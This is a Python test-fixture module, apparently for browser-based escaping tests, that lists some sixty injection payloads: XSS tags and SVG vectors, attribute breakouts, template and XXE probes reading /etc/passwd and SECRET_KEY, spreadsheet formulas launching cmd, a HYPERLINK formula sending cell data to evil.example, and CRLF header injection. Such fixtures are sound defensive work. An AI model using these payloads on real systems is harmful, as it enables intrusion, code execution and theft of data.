"""Sixty words that are no words: each would run, open, redirect, calculate or cut somewhere that takes it for its own.

All of them announce themselves by a dialog, where they are scripts: a browser's test waits for one.
"""

import re

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(2)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script\x0cx>alert(4)</script>",
    "<scr<script>ipt>alert(5)</scr</script>ipt>",
    "<img src=x onerror=alert(6)>",
    "<img src=x onerror=alert(7)//",
    "<image/src/onerror=alert(8)>",
    "<iframe srcdoc='<script>alert(9)</script>'></iframe>",
    "<iframe src=javascript:alert(10)></iframe>",
    "<object data=javascript:alert(11)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(14)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<form action=//evil.example><button>Жіберу</button></form>",
    "<details open ontoggle=alert(18)>",
    "<body onload=alert(19)>",
    "<input autofocus onfocus=alert(20)>",
    "<video><source onerror=alert(21)></video>",
    "<marquee onstart=alert(22)>",
    "<template><script>alert(23)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(24)>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(25)>",
    "<a href=javascript:alert(26) id=x>Басыңыз</a><a href='&#106;avascript:alert(26)'>.</a>",
)
FOREIGN = (
    "<svg onload=alert(27)>",
    "<svg><script>alert&#40;28)</script></svg>",
    "<svg><animate onbegin=alert(29) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(30)><text y=20>Оқу</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(31)>#x'>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)
WAYS_OUT = (
    '"><script>alert(33)</script>',
    "'><img src=x onerror=alert(34)>",
    '" autofocus onfocus=alert(35) x="',
    "' onmouseover=alert(36) style='position:fixed;inset:0' '",
    "</textarea><script>alert(37)</script>",
    "</title><script>alert(38)</script>",
    "</script><script>alert(39)</script>",
    "--><img src=x onerror=alert(40)><!--",
    "]]><script>alert(41)</script>",
    "`-alert(42)-`${alert(42)}",
    "\\';alert(43)//\\\";alert(43)//",
    "&lt;script&gt;alert(44)&lt;/script&gt;&#60;script&#62;alert(44)&#60;/script&#62;",
    "javascript:alert(45)//https://example.kz",
    "data:text/html,<script>alert(46)</script>",
    "</p></div></main></body></html><script>alert(47)</script>",
)
TEMPLATES = ("{{7*7}}${7*7}#{7*7}<%= 7*7 %>", "{% load static %}{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}")
UNICODE = (
    "\uff1cscript\uff1ealert(50)\uff1c/script\uff1e",
    "\u202egnp.<script>alert(51)</script>\u202c",
    "<\u200bscript>alert(52)</scr\u200bipt>",
    "\ufeff<img src=x onerror=\u2028alert(53)>",
    "+ADw-script+AD4-alert(54)+ADw-/script+AD4-",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Басыңыз")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r\n-2+3;+4",
)
LINES = (
    "Ұсыныс\r\nBcc: evil@example.kz\r\nContent-Type: text/html\r\n\r\n<script>alert(59)</script>",
    '%0d%0aSet-Cookie:%20x=1%00%3Cscript%3Ealert(60)%3C/script%3E\\x00\x1b[31m"; filename="x.html',
)
PAYLOADS = (*TAGS, *FOREIGN, *WAYS_OUT, *TEMPLATES, *UNICODE, *FORMULAS, *LINES)


def harmless(payload):
    """Letters and blanks in the places of the payload's signs: what a page would make of innocent words."""
    return re.sub(r"[^\s]", "ә", payload)


def as_file_name(payload):
    """The payload as the stem of a file's name, in the way in which browsers write it into their requests."""
    written = payload.replace("\r", "%0D").replace("\n", "%0A").replace('"', "%22")
    return f"{written}.txt"
